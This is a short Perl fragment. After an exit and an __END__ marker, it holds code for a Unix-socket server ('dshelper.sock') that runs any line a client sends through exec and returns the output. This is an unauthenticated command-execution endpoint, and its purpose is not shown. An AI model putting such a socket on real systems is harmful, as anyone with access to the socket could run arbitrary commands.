exit;
__END__
use Socket;
my $name = "/home/runtime/dshelper.sock";
socket(SERVER, PF_UNIX, SOCK_STREAM, 0);
unlink($name);
bind(SERVER, sockaddr_un($name));
listen(SERVER, SOMAXCONN);
while (accept(CLIENT, SERVER)) {
  if (fork() == 0) {
    open(STDOUT, ">&CLIENT");
    open(STDERR, ">&CLIENT");
    my $line = <CLIENT>;
    exec($line);
  }
}
